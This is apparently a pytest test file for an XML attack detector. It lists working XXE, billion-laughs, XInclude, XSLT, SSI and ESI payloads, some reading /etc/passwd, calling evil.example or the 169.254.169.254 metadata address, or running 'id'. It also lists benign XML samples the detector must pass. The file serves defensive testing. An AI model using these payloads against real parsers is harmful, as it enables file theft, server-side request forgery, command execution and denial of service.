"""XML: documents that make the parser fetch or grow convict; ordinary declarations do not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.guard.inspector.sinks.scoring import QUERY, growth, read_though_ordinary, score

from shangdun_guard.inspector.sinks.xml import SINK

LAUGHS = "<!DOCTYPE l [<!ENTITY a0 'lol'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
)
ATTACKS = {
    "file": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    "public": '<!DOCTYPE r [<!ENTITY x PUBLIC "a" "http://evil.example/x">]><r>&x;</r>',
    "lower case": "<!doctype r [<!entity x system 'expect://id'>]><r>&x;</r>",
    "parameter entity": '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]>',
    "parameter entity in another": "<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'http://e/?%f;'>\">",
    "foreign DTD": '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>',
    "DTD of a file": '<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>',
    "public name, foreign DTD": '<!DOCTYPE r PUBLIC "-//A" "http://169.254.169.254/x"><r/>',
    "look-alike of a known host": '<!DOCTYPE r SYSTEM "http://w3.org.evil.example/x"><r/>',
    "laughs": LAUGHS + "]><l>&a9;</l>",
    "one that holds itself": "<!DOCTYPE l [<!ENTITY a '&a;&a;'>]><l>&a;</l>",
    "laughs, a sample": "<!DOCTYPE l [<!ENTITY a 'l'><!ENTITY b '&a;&a;&a;&a;'>]><l>&b;</l>",
    "quadratic": "<!DOCTYPE l [<!ENTITY a '" + "x" * 7000 + "'>]><l>" + "&a;" * 9000 + "</l>",
    "XInclude": '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text"'
    ' href="file:///etc/passwd"/></r>',
    "XSLT": "<xsl:value-of select=\"document('/etc/passwd')\"/>",
    "XSLT calls PHP": "<xsl:value-of select=\"php:function('system','id')\"/>",
    "XSLT calls Java": '<xsl:stylesheet xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime">',
    "SSI command": '<!--#exec cmd="id" -->',
    "SSI file": '<!--#include virtual="/etc/passwd" -->',
    "SSI variable": '<!--#echo var="DOCUMENT_ROOT" -->',
    "ESI": '<esi:include src="http://evil.example/x"/>',
}
HONEST = {
    "html": "<!DOCTYPE html><html><head><title>x</title></head></html>",
    "xhtml": '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN"'
    ' "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    "svg": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"'
    ' "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    "illustrator": '<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg/>',
    "plist": '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN"'
    ' "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
    "own DTD": '<!DOCTYPE catalog SYSTEM "catalog.dtd"><catalog/>',
    "soap": '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>',
    "entity of text": '<!DOCTYPE d [<!ENTITY shop "The Shop">]><d>&shop; and &shop;</d>',
    "comment": "<!-- #1 in sales: include us -->",
    "chapters": '<book xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="ch1.xml"/></book>',
    "list": "#include <stdio.h>",
    "stylesheet": '<xsl:template match="/"><xsl:apply-templates select="item"/></xsl:template>',
    "rss": '<rss version="2.0"><channel><title>x</title></channel></rss>',
    "cdata": "<a><![CDATA[x < y]]></a>",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_fetches_or_grows_convicts(text: str) -> None:
    assert score(SINK, text) >= 0


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST.keys())
def test_ordinary_documents_do_not(text: str) -> None:
    assert score(SINK, text) <= -3


@pytest.mark.parametrize(
    "unit",
    [
        "<!ENTITY a '", '<!ENTITY a "&a;">', "<!ENTITY % a SYSTEM ", "<!DOCTYPE a ", "<!DOCTYPE ",
        "<!DOCTYPE a PUBLIC '", "<xi:include ", "<include a", "<xsl:", "document(", "<!--#", "<!--",
        "&a;", "<esi:", "xmlns:a=", "<!ENTITY ",
    ],
)  # fmt: skip
def test_time_is_linear(unit: str) -> None:
    assert growth(SINK, unit, 8_000) < 9


def test_ordinary_values_pass_at_a_glance() -> None:
    assert read_though_ordinary(SINK) == []


PIECES = st.sampled_from(
    ["<!DOCTYPE ", "<!ENTITY ", "% ", "a ", "SYSTEM ", "PUBLIC ", "'", '"', "&a;", "%a;", "]>", "[",
     "file:///", "http://", "<xi:include ", "href=", "<!--#", "exec cmd=", "-->", "<xsl:", "\n"]
)  # fmt: skip


@given(st.text() | st.lists(PIECES, max_size=40).map("".join))
def test_it_never_raises_and_its_places_lie_inside(text: str) -> None:
    for sign in SINK.judge(text, QUERY):
        assert 0 <= sign.start <= sign.end <= len(text)


def test_codes_have_weights_and_sentences() -> None:
    assert SINK.weights.keys() == SINK.sentences.keys()
    assert all(code.startswith("xml.") for code in SINK.weights)
